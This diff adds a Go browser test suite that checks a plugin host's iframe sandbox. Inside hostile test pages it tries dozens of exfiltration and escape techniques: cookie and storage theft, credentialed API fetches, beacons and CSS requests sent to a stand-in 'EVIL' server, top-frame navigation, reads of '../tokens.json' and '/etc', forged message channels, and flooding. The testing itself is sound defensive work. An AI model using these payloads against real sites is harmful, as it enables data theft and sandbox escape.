@@ -1,0 +1,320 @@
+package pages_test
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/chromedp/chromedp"
+
+	"github.com/wasmhost/wasmhost/host/browsertest"
+)
+
+// elsewhere is a server that no page may reach. It answers everybody, and
+// notes the paths that were asked for.
+type elsewhere struct {
+	*httptest.Server
+	mu   sync.Mutex
+	seen []string
+}
+
+func newElsewhere(t *testing.T) *elsewhere {
+	e := &elsewhere{}
+	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		e.mu.Lock()
+		defer e.mu.Unlock()
+		e.seen = append(e.seen, r.URL.Path)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		_, _ = w.Write([]byte("here"))
+	}))
+	t.Cleanup(e.Close)
+	return e
+}
+
+func (e *elsewhere) asked(path string) bool {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	return slices.ContainsFunc(e.seen, func(p string) bool { return strings.HasPrefix(p, path) })
+}
+
+// attacks are what a hostile page tries, as expressions that throw or reject,
+// or are "refused", where that fails. EVIL is the address of another server,
+// HOST that of the host, OTHER that of another plugin's file.
+var attacks = map[string]string{
+	"the document of the console":  `parent.document.body.innerHTML`,
+	"the storage of the console":   `parent.localStorage.getItem("wasmhost.binding")`,
+	"the variables of the console": `parent.shown.client`,
+	"the address of the console":   `parent.location.href`,
+	"the frame's own element":      `frameElement === null ? no() : frameElement.src`,
+	"cookies":                      `document.cookie`,
+	"local storage":                `localStorage.getItem("a")`,
+	"session storage":              `sessionStorage.getItem("a")`,
+	"databases of the browser":     `heard(indexedDB.open("a"), "success")`,
+	"caches of the browser":        `caches.open("a")`,
+	"another frame's window":       `siblings()[0].wasmhost.storage`,
+	"another frame's document":     `siblings()[0].document.body.innerHTML`,
+	"the API of the host":          `fetch("HOST/api/v1/plugins", {credentials: "include"})`,
+	"the API with a guess":         `fetch("HOST/api/v1/plugins", {headers: {"Wasmhost-Session": "a"}})`,
+	"its own file by fetch":        `fetch(location.href)`,
+	"another server by fetch":      `fetch("EVIL/fetch", {mode: "no-cors"})`,
+	"another server by XHR": `(() => { const x = new XMLHttpRequest(); x.open("GET", "EVIL/xhr"); x.send();
+		return heard(x, "load"); })()`,
+	"another server by WebSocket":   `heard(new WebSocket("EVIL/socket".replace("http", "ws")), "open")`,
+	"another server by EventSource": `heard(new EventSource("EVIL/events"), "open")`,
+	"another server by beacon":      `(navigator.sendBeacon("EVIL/beacon", "data"), wait().then(no))`,
+	"another server by image":       `load("img", "src", "EVIL/image")`,
+	"another server by script":      `load("script", "src", "EVIL/script")`,
+	"another server by style":       `load("link", "href", "EVIL/style", { rel: "stylesheet" })`,
+	"another server by prefetch": `(load("link", "href", "EVIL/prefetch", { rel: "prefetch" }).catch(() => 0),
+		wait().then(no))`,
+	"another server by preload": `load("link", "href", "EVIL/preload", { rel: "preload", as: "image" })`,
+	"another server by module":  `import("EVIL/module")`,
+	"another server by frame":   `(load("iframe", "src", "EVIL/frame").catch(() => 0), wait().then(no))`,
+	"another server by object":  `load("object", "data", "EVIL/object")`,
+	"another server by media":   `load("video", "src", "EVIL/video", {}, "loadeddata")`,
+	"another server by ping":    `(put("a", { href: "#x", ping: "EVIL/ping" }).click(), wait().then(no))`,
+	"another server by a form in another window": `(put("form", { action: "EVIL/target", target: "_blank" }).submit(),
+		wait().then(no))`,
+	"another server by CSS": `(put("style", { textContent: "@import url(EVIL/css-import); " +
+			"@font-face { font-family: x; src: url(EVIL/css-font); unicode-range: U+41; } " +
+			"body { background: url(EVIL/css-image); font-family: x; list-style: url(EVIL/css-list); " +
+			"cursor: url(EVIL/css-cursor), auto; }" }), put("p", { textContent: "A" }), wait().then(no))`,
+	"another server by a font": `new FontFace("y", "url(EVIL/font)").load()`,
+	"another server by speculation": `(put("script", { type: "speculationrules", textContent: JSON.stringify({
+		prefetch: [{ urls: ["EVIL/speculation"], eagerness: "immediate" }] }) }), wait().then(no))`,
+	"a worker":                    `heard(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message")`,
+	"a worker of its own file":    `heard(new Worker("worker.js"), "message")`,
+	"a service worker":            `navigator.serviceWorker.register("worker.js")`,
+	"eval":                        `eval("1")`,
+	"a function from text":        `new Function("return 1")()`,
+	"a window without a click":    `open("EVIL/window") === null ? no() : 1`,
+	"a dialog":                    `(confirm("Approve?") ? 1 : no())`,
+	"the address bar":             `(top.location = "EVIL/top", wait().then(no))`,
+	"the clipboard":               `navigator.clipboard.readText()`,
+	"the camera":                  `navigator.mediaDevices.getUserMedia({ video: true })`,
+	"the place of the user":       `new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no))`,
+	"another plugin's page":       `(load("iframe", "src", "OTHER").catch(() => 0), wait().then(no))`,
+	"another plugin's script":     `load("script", "src", "OTHER".replace("index.html", "other.js"))`,
+	"the console's script":        `load("script", "src", "HOST/console/console.js")`,
+	"the console in a frame":      `(load("iframe", "src", "HOST/").catch(() => 0), wait().then(no))`,
+	"a base for its links":        `(document.head.prepend(put("base", { href: "EVIL/" })), load("img", "src", "based"))`,
+	"files of the host by assets": `wasmhost.assets.readFile("../../../../tokens.json")`,
+	"a folder of the host":        `wasmhost.assets.listFiles("/etc")`,
+	"a permission it lacks":       `wasmhost.secrets.get("a")`,
+	"another permission it lacks": `wasmhost.ai.generateMessage("a", "b")`,
+	"a channel of the host":       `wasmhost.methods.call("events", "emit", "wasmhost:session", {})`,
+	"a handler of the backend's":  `wasmhost.methods.call("cli", "handle", "x")`,
+}
+
+const attackTools = `
+	const no = () => { throw new Error("refused"); };
+	const siblings = () => Array.from({ length: parent.length }, (_, i) => parent[i]).filter((f) => f !== window);
+	const wait = () => new Promise((wake) => setTimeout(wake, 300));
+	const heard = (target, yes, bad = "error") => new Promise((ok, no) => {
+		target.addEventListener(yes, () => ok("heard")); target.addEventListener(bad, no);
+	});
+	const put = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
+	const load = (tag, attribute, url, more = {}, event = "load") => new Promise((ok, no) => {
+		const e = Object.assign(document.createElement(tag), more);
+		e.addEventListener(event, () => ok("loaded")); e.addEventListener("error", no);
+		e[attribute] = url;
+		document.body.append(e);
+		setTimeout(no, 1500);
+	});
+`
+
+// Nothing that a hostile page tries in its frame gets through.
+func TestHostilePage(t *testing.T) {
+	evil := newElsewhere(t)
+	other := paged{"other", map[string]string{"ui/other.js": "1"}, nil}
+	w := serve(t, other)
+	_, otherPage := w.open("other")
+	var script strings.Builder
+	script.WriteString("<!doctype html><body><script>" + attackTools + "const attacks = {")
+	for name, attack := range attacks {
+		attack = strings.NewReplacer("EVIL", evil.URL, "HOST", w.URL(), "OTHER", otherPage).Replace(attack)
+		script.WriteString(quote(name) + ": async () => (" + attack + "),\n")
+	}
+	script.WriteString(`}; for (const [name, attack] of Object.entries(attacks)) (async () => {
+		try {
+			const late = new Promise((_, no) => setTimeout(no, 5000)); // a question that nobody answers
+			return "done " + String(await Promise.race([attack(), late])).slice(0, 200);
+		} catch (e) { return "refused"; }
+	})().then((outcome) => parent.postMessage(JSON.stringify({ [name]: outcome }), "*"));</script>`)
+	w.install(paged{"hostile", map[string]string{"ui/index.html": script.String(), "ui/worker.js": "postMessage(1)"}, nil})
+	c := w.console()
+	c.show("other")
+	c.show("hostile")
+	said := map[string]string{}
+	for range attacks {
+		if err := json.Unmarshal([]byte(c.says()), &said); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for name := range attacks {
+		t.Run(name, func(t *testing.T) {
+			if said[name] != "refused" {
+				t.Errorf("it got %q", said[name])
+			}
+		})
+	}
+	evil.mu.Lock()
+	defer evil.mu.Unlock()
+	if len(evil.seen) > 0 {
+		t.Errorf("another server was asked for %q", evil.seen)
+	}
+	if got := browsertest.Eval[string](c.Page, `Promise.resolve(location.origin)`); got != w.URL() {
+		t.Errorf("the console is at %s", got)
+	}
+}
+
+// A page that leads its own frame elsewhere, in whatever way, gets nowhere.
+func TestHostileNavigation(t *testing.T) {
+	evil := newElsewhere(t)
+	for name, page := range map[string]string{
+		"script":  `<script>location.href = "EVIL/location?" + "data"</script>`,
+		"replace": `<script>location.replace("EVIL/replace")</script>`,
+		"refresh": `<meta http-equiv="refresh" content="0; url=EVIL/refresh">`,
+		"link":    `<a id="a" href="EVIL/link">x</a><script>a.click()</script>`,
+		"top":     `<a id="a" href="EVIL/linktop" target="_top">x</a><script>a.click()</script>`,
+		"form":    `<form id="f" action="EVIL/form"></form><script>f.submit()</script>`,
+		"data":    `<script>location.href = "data:text/html,<img src='EVIL/data'>"</script>`,
+		"blob": `<script>location.href = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"],
+			{ type: "text/html" }))</script>`,
+		"script address": `<script>top.location.href = "javascript:fetch('EVIL/javascript')"</script>`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := serve(t, paged{"hostile", map[string]string{"ui/index.html": `<!doctype html><body>` +
+				strings.ReplaceAll(page, "EVIL", evil.URL)}, nil})
+			c := w.console()
+			c.show("hostile")
+			c.Wait(`shown.frames[0].element.src !== ""`)
+			browsertest.Eval[any](c.Page, `new Promise((wake) => setTimeout(() => wake(1), 1000))`)
+			if evil.asked("/") {
+				t.Errorf("another server was asked for %q", evil.seen)
+			}
+			if got := browsertest.Eval[string](c.Page, `Promise.resolve(location.origin)`); got != w.URL() {
+				t.Errorf("the console is at %s", got)
+			}
+		})
+	}
+}
+
+// Messages of another frame, or of one that says to be a page, get no channel
+// and no answer.
+func TestForgedMessages(t *testing.T) {
+	quiet := `<!doctype html><script>addEventListener("message", (e) => {
+		if (e.source !== parent) parent.postMessage("told by a stranger: " + JSON.stringify(e.data), "*"); });
+		wasmhost.storage.set("mine", 1).then(() => parent.postMessage("ready", "*"));</script>`
+	forger := `<!doctype html><script>
+		const got = [];
+		addEventListener("message", (e) => got.push(e.ports.length));
+		for (let i = 0; i < parent.length; i++) if (parent[i] !== window) {
+			const channel = new MessageChannel();
+			channel.port1.onmessage = (e) => got.push(e.data);
+			parent[i].postMessage({ wasmhost: "connect", theme: { mode: "evil", properties: {} } }, "*", [channel.port2]);
+		}
+		for (let i = 0; i < 5; i++) parent.postMessage({ wasmhost: "ready" }, "*");
+		parent.postMessage({ id: 1, namespace: "storage", method: "list", args: [] }, "*");
+		setTimeout(() => parent.postMessage("forger got " + JSON.stringify(got), "*"), 1000);
+	</script>`
+	w := serve(t, paged{"quiet", map[string]string{"ui/index.html": quiet}, nil},
+		paged{"forger", map[string]string{"ui/index.html": forger}, nil})
+	c := w.console()
+	c.show("quiet")
+	if got := c.says(); got != "ready" {
+		t.Fatal(got)
+	}
+	c.show("forger")
+	for {
+		said := c.says()
+		if strings.HasPrefix(said, "told by a stranger") {
+			continue // it hears them as any window does, and does as before
+		}
+		// At most its own port, which the script of the bridge takes first.
+		if said != "forger got []" && said != "forger got [1]" {
+			t.Error(said)
+		}
+		break
+	}
+}
+
+// A page that floods the channel is cut off, and the console stays usable.
+func TestFlood(t *testing.T) {
+	page := `<!doctype html><script>setInterval(() => {
+		for (let i = 0; i < 2000; i++) wasmhost.storage.list().catch(() => 0);
+	}, 1)</script>`
+	w := serve(t, paged{"flood", map[string]string{"ui/index.html": page}, nil})
+	c := w.console()
+	c.show("flood")
+	c.Wait(`shown.failures.length === 1 && !shown.frames[0].element.isConnected`)
+	got := browsertest.Eval[string](c.Page, `shown.client.listPlugins().then((l) => l.plugins[0].id + shown.failures[0])`)
+	if !strings.HasPrefix(got, "floodThe page sent too many messages") {
+		t.Errorf("afterwards: %s", got)
+	}
+}
+
+// A permission that was revoked is gone for the page too, in the view that is
+// open.
+func TestRevokedPermission(t *testing.T) {
+	page := `<!doctype html><script>addEventListener("message", async (e) => {
+		if (e.data !== "try") return;
+		parent.postMessage(await wasmhost.storage.set("a", 1).then(() => "stored", (e) => e.code), "*");
+	})</script>`
+	w := serve(t, paged{"revoked", map[string]string{"ui/index.html": page}, nil})
+	c := w.console()
+	c.show("revoked")
+	c.Wait(`shown.frames[0].element.src !== ""`)
+	try := func() string {
+		t.Helper()
+		c.Do(chromedp.Evaluate[chromedp.Void](`void shown.frames[0].element.contentWindow.postMessage("try", "*")`))
+		return c.says()
+	}
+	browsertest.Eval[any](c.Page, `new Promise((wake) => setTimeout(() => wake(1), 500))`)
+	if got := try(); got != "stored" {
+		t.Fatalf("while it is granted: %s", got)
+	}
+	if _, err := w.Plugins().Revoke(t.Context(), "revoked", []string{"storage"}); err != nil {
+		t.Fatal(err)
+	}
+	if got := try(); got != "permission_denied" {
+		t.Errorf("a moment after it was revoked: %s", got)
+	}
+	used, err := w.Plugins().Usage("revoked")
+	if err != nil || len(used) == 0 || used[0].Allowed != 1 || used[0].Denied != 1 {
+		t.Errorf("the audit has %+v, %v", used, err)
+	}
+}
+
+// The address of a page, opened outside of the console, is as sandboxed, and
+// has no bridge; so is an image with a script in it.
+func TestPageByItself(t *testing.T) {
+	page := `<!doctype html><body><script>
+		const said = [];
+		const attempt = (name, f) => { try { f(); said.push(name); } catch {} };
+		attempt("storage", () => localStorage.getItem("a"));
+		attempt("cookie", () => document.cookie);
+		wasmhost.storage.get("a").then(() => said.push("bridge"), (e) => said.push(e.code)).then(() =>
+			fetch("/api/v1/plugins").then(() => said.push("fetch"), () => 0)).then(() => { document.title = "said " + said; });
+	</script>`
+	svg := `<svg xmlns="http://www.w3.org/2000/svg"><title>none</title><script>
+		document.querySelector("title").textContent = "origin " + origin; localStorage.getItem("a");
+		document.querySelector("title").textContent = "stored";</script></svg>`
+	w := serve(t, paged{"alone", map[string]string{"ui/index.html": page, "ui/image.svg": svg}, nil})
+	console := browsertest.Console(t, w)
+	_, url := w.open("alone")
+	tab := console.Tab(url)
+	tab.Wait(`document.title.startsWith("said")`)
+	if got := browsertest.Eval[string](tab, `Promise.resolve(document.title)`); got != "said unavailable" {
+		t.Errorf("the page by itself: %s", got)
+	}
+	image := console.Tab(strings.Replace(url, "index.html", "image.svg", 1))
+	got := browsertest.Eval[string](image, `Promise.resolve(document.querySelector("title").textContent + origin)`)
+	if strings.Contains(got, "stored") || !strings.HasSuffix(got, "null") {
+		t.Errorf("the image by itself: %s", got)
+	}
+}
